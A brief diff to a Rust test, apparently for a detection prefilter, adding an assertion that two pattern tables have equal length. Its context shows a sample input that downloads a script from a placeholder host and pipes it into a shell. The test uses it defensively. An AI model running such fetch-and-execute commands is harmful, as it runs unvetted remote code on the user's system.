@@ -150,6 +150,8 @@ mod tests {
 
     #[test]
     fn the_prefilter_keeps_every_pattern_the_set_matches() {
+        // The set and the table are made apart from the rule table: one entry each per pattern.
+        assert_eq!(FIRSTS.len(), TABLE.index.len());
         let mut found = 0;
         for text in [
             "CURL -fsSL https://x.example/i.sh | BASH",
